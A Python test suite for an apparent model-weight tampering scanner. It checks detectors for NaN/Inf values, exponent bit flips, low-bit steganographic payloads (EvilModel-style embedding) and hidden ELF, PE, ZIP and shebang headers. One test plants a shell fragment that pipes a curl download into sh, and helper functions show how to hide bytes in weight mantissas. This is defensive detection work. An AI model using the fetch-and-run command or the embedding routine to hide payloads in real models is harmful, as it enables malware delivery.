"""Default weight detectors W1-W5: silent on benign weights, exact on planted tampering.

Benign inputs cover the initialisations and precision origins real checkpoints hold (fan-in
normal, truncated normal, Kaiming uniform, fp16/bf16 upcasts, zero padding rows, LayerNorm-like
constants) plus the repository's real tensor fixtures. Each tampering test checks the rule id and
the element offsets the evidence names.
"""

from __future__ import annotations

import json
import random
import struct
from pathlib import Path

import numpy as np
import pytest

from shardscan.model import Severity
from shardscan.weights.blocks import BLOCK_ELEMENTS, block_partial
from shardscan.weights.detectors import Evidence, detect
from shardscan.weights.merge import TensorStats, merge
from shardscan.weights.thresholds import SUB_BLOCK_ELEMENTS, W4_PAIRDEV_FLOOR

FIXTURES = Path(__file__).parent / "fixtures"
SAFETENSORS_FLOATS = {"F64": np.float64, "F32": np.float32, "F16": np.float16, "BF16": np.uint16}


def analyse(
    values: np.ndarray, dtype: str = "F32", *, row_length: int | None = None, workers: int = 1, seed: int = 0
) -> tuple[TensorStats, list[Evidence]]:
    """Partials block by block (in shuffled order when workers > 1, with look-ahead tails), merged."""
    n = values.shape[0]
    jobs = [(i, s) for i, s in enumerate(range(0, n, BLOCK_ELEMENTS))]
    if workers > 1:
        random.Random(seed).shuffle(jobs)
    parts = [
        block_partial(
            values[s : s + BLOCK_ELEMENTS], dtype, i, row_length=row_length, tail=values[s + BLOCK_ELEMENTS :][:8192]
        )
        for i, s in jobs
    ]
    stats = merge(parts, n_elements=n)
    return stats, detect(stats)


def alarms(evidence: list[Evidence]) -> list[Evidence]:
    return [e for e in evidence if e.severity >= Severity.WARNING]


def only(evidence: list[Evidence], rule: str) -> Evidence:
    found = [e for e in evidence if e.rule_id == rule]
    assert len(found) == 1, evidence
    return found[0]


# --- benign ----------------------------------------------------------------------------------


def _truncated_normal(rng: np.random.Generator, n: int, std: float) -> np.ndarray:
    x = rng.standard_normal(n)
    bad = np.abs(x) > 2
    while bad.any():
        x[bad] = rng.standard_normal(int(bad.sum()))
        bad = np.abs(x) > 2
    return (x * std).astype(np.float32)


def benign_tensors() -> dict[str, tuple[np.ndarray, str, int | None]]:
    rng = np.random.default_rng(10)
    fan_in = 1536
    n = BLOCK_ELEMENTS + 300 * fan_in
    normal = (rng.standard_normal(n) / np.sqrt(fan_in)).astype(np.float32)
    bound = 1 / np.sqrt(fan_in)  # PyTorch Linear default: kaiming_uniform_(a=sqrt(5))
    kaiming = rng.uniform(-bound, bound, 4 * SUB_BLOCK_ELEMENTS * 3).astype(np.float32)
    kaiming_relu = rng.uniform(-1, 1, 3 * SUB_BLOCK_ELEMENTS).astype(np.float32) * np.float32(np.sqrt(6 / 768))
    embed = (rng.standard_normal((3000, 256)) * 0.02).astype(np.float32)
    embed[[0, 1, 2999]] = 0.0  # padding / unused rows
    pruned = normal[:500_000].copy()
    pruned[rng.random(500_000) < 0.9] = 0.0
    layernorm = (1 + rng.standard_normal(4096) * 0.05).astype(np.float32)
    return {
        "fan-in normal": (normal, "F32", fan_in),
        "truncated normal": (_truncated_normal(rng, 3 * SUB_BLOCK_ELEMENTS, 0.02), "F32", 768),
        "kaiming uniform": (kaiming, "F32", fan_in),
        "kaiming uniform relu": (kaiming_relu, "F32", 768),
        "fp16 upcast": (normal.astype(np.float16).astype(np.float32), "F32", fan_in),
        "bf16 upcast": ((normal.view(np.uint32) & np.uint32(0xFFFF0000)).view(np.float32), "F32", fan_in),
        "fp16 upcast embedding with zero rows": (embed.astype(np.float16).astype(np.float32).ravel(), "F32", 256),
        "native embedding with zero rows": (embed.ravel(), "F32", 256),
        "native F16": (normal[:400_000].astype(np.float16), "F16", fan_in),
        "native BF16": ((normal.view(np.uint32) >> 16).astype(np.uint16), "BF16", fan_in),
        "float64 coefficients": (rng.standard_normal(70_000), "F64", 70),
        "90% pruned": (pruned, "F32", 1000),
        "layernorm weight": (layernorm, "F32", None),
        "layernorm ones": (np.ones(4096, np.float32), "F32", None),
        "bias zeros": (np.zeros(4096, np.float32), "F32", None),
        "position ids as float": (np.arange(70_000, dtype=np.float32), "F32", None),
    }


@pytest.mark.parametrize("name", sorted(benign_tensors()))
def test_benign_weights_raise_no_warning(name: str) -> None:
    values, dtype, row = benign_tensors()[name]
    _, evidence = analyse(values, dtype, row_length=row)
    assert alarms(evidence) == []


def test_benign_w4_margin() -> None:
    stats, _ = analyse(benign_tensors()["fan-in normal"][0])
    assert stats.w4_pairdev > 2 * W4_PAIRDEV_FLOOR


def _safetensors(path: Path) -> list[tuple[str, np.ndarray, str, int | None]]:
    data = path.read_bytes()
    (size,) = struct.unpack("<Q", data[:8])
    header = json.loads(data[8 : 8 + size])
    body = data[8 + size :]
    out = []
    for name, info in header.items():
        if name == "__metadata__" or info["dtype"] not in SAFETENSORS_FLOATS:
            continue
        lo, hi = info["data_offsets"]
        values = np.frombuffer(body[lo:hi], dtype=np.dtype(SAFETENSORS_FLOATS[info["dtype"]]).newbyteorder("<"))
        shape = info["shape"]
        row = int(np.prod(shape[1:])) if len(shape) > 1 else None
        out.append((f"{path.name}:{name}", values, info["dtype"], row))
    return out


def real_fixture_tensors() -> list[tuple[str, np.ndarray, str, int | None]]:
    found = []
    for path in sorted((FIXTURES / "safetensors").glob("*.safetensors")):
        found.extend(_safetensors(path))
    npy = np.load(FIXTURES / "benign" / "numpy_float32.npy", allow_pickle=False)
    found.append(("numpy_float32.npy", npy.ravel(), "F32", npy.shape[-1]))
    return found


def test_real_fixture_weights_raise_no_warning() -> None:
    tensors = real_fixture_tensors()
    assert {dtype for _, _, dtype, _ in tensors} >= {"F64", "F32", "F16", "BF16"}
    for name, values, dtype, row in tensors:
        if values.shape[0] == 0:
            continue
        _, evidence = analyse(values, dtype, row_length=row)
        assert alarms(evidence) == [], name


# --- W1 / W2 ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def host() -> np.ndarray:
    rng = np.random.default_rng(20)
    return (rng.standard_normal(BLOCK_ELEMENTS + 5 * SUB_BLOCK_ELEMENTS) * 0.02).astype(np.float32)


def test_w1_nan_and_inf_with_offsets(host: np.ndarray) -> None:
    w = host.copy()
    w[BLOCK_ELEMENTS + 17] = np.nan
    w[123] = np.inf
    stats, evidence = analyse(w)
    e = only(evidence, "W1")
    assert e.severity == Severity.WARNING and e.element_indices == (123, BLOCK_ELEMENTS + 17)
    assert (stats.n_nan, stats.n_posinf, stats.n_neginf) == (1, 1, 0)
    assert only(detect(stats, name="attn.mask"), "W1").severity == Severity.INFO


def test_w2_exponent_msb_flip(host: np.ndarray) -> None:
    w = host.copy()
    u = w.view(np.uint32)
    target = 700_001
    u[target] ^= np.uint32(1 << 30)
    _, evidence = analyse(w)
    e = only(evidence, "W2")
    assert e.element_indices == (target,) and e.confidence == "high" and e.value > 1e30


def test_w2_large_but_finite_is_medium_confidence(host: np.ndarray) -> None:
    w = host.copy()
    w[[5, 9]] = np.float32(3e7)
    e = only(analyse(w)[1], "W2")
    assert e.element_indices == (5, 9) and e.confidence == "medium"


# --- W3 --------------------------------------------------------------------------------------


@pytest.mark.parametrize("rate", [0.001, 0.01])
def test_w3_payload_in_low_13_bits_of_fp16_origin(host: np.ndarray, rate: float) -> None:
    rng = np.random.default_rng(30)
    w = host.astype(np.float16).astype(np.float32)
    u = w.view(np.uint32)
    where = np.sort(rng.choice(w.shape[0], size=int(rate * w.shape[0]), replace=False))
    payload = rng.integers(1, 1 << 13, size=where.shape[0], dtype=np.uint32)
    u[where] = (u[where] & np.uint32(~0x1FFF & 0xFFFFFFFF)) | payload
    stats, evidence = analyse(w, row_length=1536)
    assert stats.k0 == 13
    e = only(evidence, "W3")
    assert e.severity == Severity.WARNING and e.value == where.shape[0]
    assert e.element_indices == tuple(where[:8].tolist())
    assert e.details["row_aligned"] is False


def test_w3_trailing_full_precision_rows_look_like_vocab_resize() -> None:
    rng = np.random.default_rng(31)
    rows, dim = 2000, 512
    emb = (rng.standard_normal((rows, dim)) * 0.02).astype(np.float16).astype(np.float32)
    emb[-8:] = (rng.standard_normal((8, dim)) * 0.02).astype(np.float32)  # resized vocabulary
    _, evidence = analyse(emb.ravel(), row_length=dim)
    e = only(evidence, "W3")
    assert e.severity == Severity.INFO and e.details["row_aligned"] is True
    assert e.details["first_row"] == rows - 8
    assert alarms(evidence) == []


# --- W4 --------------------------------------------------------------------------------------


def _evilmodel(host: np.ndarray, sub_block: int, payload: bytes) -> np.ndarray:
    """Low three bytes of each float32 in one sub-block replaced by payload bytes (EvilModel)."""
    w = host.copy()
    u = w.view(np.uint32)
    lo = sub_block * SUB_BLOCK_ELEMENTS
    chunk = np.frombuffer(payload[: 3 * SUB_BLOCK_ELEMENTS], dtype=np.uint8).reshape(-1, 3).astype(np.uint32)
    low = chunk[:, 0] | chunk[:, 1] << 8 | chunk[:, 2] << 16
    seg = u[lo : lo + low.shape[0]]
    u[lo : lo + low.shape[0]] = (seg & np.uint32(0xFF000000)) | low
    return w


def test_w4_evilmodel_random_bytes(host: np.ndarray) -> None:
    payload = np.random.default_rng(40).bytes(3 * SUB_BLOCK_ELEMENTS)
    _, evidence = analyse(_evilmodel(host, 18, payload))
    e = only(evidence, "W4")
    assert e.details["sub_block"] == 18 and e.details["block"] == 1
    assert e.element_indices == (18 * SUB_BLOCK_ELEMENTS,)
    assert e.value < W4_PAIRDEV_FLOOR and e.details["pairs"] >= 3
    assert all(len(row) == 4 for row in e.details["exponent_pairs"])


def elf64_header() -> bytes:
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)


def code_like(n: int, seed: int) -> bytes:
    """Bytes with x86-like opcode frequencies, half of them with the top bit set."""
    ops = [0x48, 0x41, 0x55, 0x5D, 0x31, 0x74, 0x75, 0x0F, 0x00, 0x24, 0x89, 0x8B, 0xE8, 0xFF, 0x85, 0x83, 0xC3,
           0xC4, 0xC0, 0xEB]  # fmt: skip
    return bytes(np.random.default_rng(seed).choice(ops, size=n).astype(np.uint8))


def test_w4_and_w5_evilmodel_elf_payload(host: np.ndarray) -> None:
    payload = elf64_header() + code_like(3 * SUB_BLOCK_ELEMENTS, 41)
    _, evidence = analyse(_evilmodel(host, 3, payload))
    assert only(evidence, "W4").details["sub_block"] == 3
    w5 = only(evidence, "W5")
    assert w5.severity == Severity.CRITICAL
    assert (3 * SUB_BLOCK_ELEMENTS, "ELF", 24, "le", 0) in w5.details["hits"]


# --- W5 --------------------------------------------------------------------------------------


def _plant(host: np.ndarray, at: int, payload: bytes, bits: int, order: str) -> np.ndarray:
    w = host.copy()
    u = w.view(np.uint32)
    width = bits // 8
    data = np.frombuffer(payload + bytes(-len(payload) % width), dtype=np.uint8).reshape(-1, width)
    if order == "be":
        data = data[:, ::-1]
    low = np.zeros(data.shape[0], dtype=np.uint32)
    for j in range(width):
        low |= data[:, j].astype(np.uint32) << np.uint32(8 * j)
    mask = np.uint32((1 << bits) - 1)
    u[at : at + low.shape[0]] = (u[at : at + low.shape[0]] & ~mask) | low
    return w


@pytest.mark.parametrize(("bits", "order"), [(8, "le"), (16, "le"), (16, "be"), (24, "le"), (24, "be")])
def test_w5_elf_header_in_low_bits(host: np.ndarray, bits: int, order: str) -> None:
    at = 333_333
    _, evidence = analyse(_plant(host, at, elf64_header() + bytes(64), bits, order))
    e = only(evidence, "W5")
    assert e.severity == Severity.CRITICAL and e.element_indices == (at,)
    assert (at, "ELF", bits, order, 0) in e.details["hits"]


def test_w5_header_straddling_a_block_boundary_uses_the_tail(host: np.ndarray) -> None:
    at = BLOCK_ELEMENTS - 3
    w = _plant(host, at, elf64_header(), 8, "le")
    assert (at, "ELF", 8, "le", 0) in only(analyse(w)[1], "W5").details["hits"]


def test_w5_pe_zip_and_shebang(host: np.ndarray) -> None:
    pe = b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80) + bytes(0x80 - 0x40) + b"PE\x00\x00" + bytes(20)
    zipped = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, 10, 10, 5, 0) + b"a.txt"
    shebang = b"#!/bin/sh\ncurl x|sh\n"
    w = _plant(host, 1000, pe, 8, "le")
    w = _plant(w, 5000, zipped, 16, "be")
    w = _plant(w, 9000, shebang, 8, "le")
    _, evidence = analyse(w)
    kinds = {e.details["hits"][0][:2]: e.severity for e in evidence if e.rule_id == "W5"}
    assert kinds == {(1000, "PE"): Severity.CRITICAL, (5000, "ZIP"): Severity.WARNING,
                     (9000, "SHEBANG"): Severity.CRITICAL}  # fmt: skip


def test_w5_near_misses_are_not_headers(host: np.ndarray) -> None:
    bad_elf = b"\x7fELF" + bytes([9, 9, 1]) + bytes(57)  # invalid class and data bytes
    bad_pe = b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80) + bytes(0x80)  # no "PE\0\0"
    w = _plant(_plant(host, 100, bad_elf, 8, "le"), 4000, bad_pe, 8, "le")
    assert [e for e in analyse(w)[1] if e.rule_id == "W5"] == []


# --- determinism of the evidence -------------------------------------------------------------


def test_evidence_identical_for_any_worker_split(host: np.ndarray) -> None:
    w = host.copy()
    w[99] = np.nan
    w.view(np.uint32)[BLOCK_ELEMENTS + 5] ^= np.uint32(1 << 30)
    one = analyse(w, row_length=1536)
    for workers in (2, 7):
        other = analyse(w, row_length=1536, workers=workers, seed=workers)
        assert other[1] == one[1]
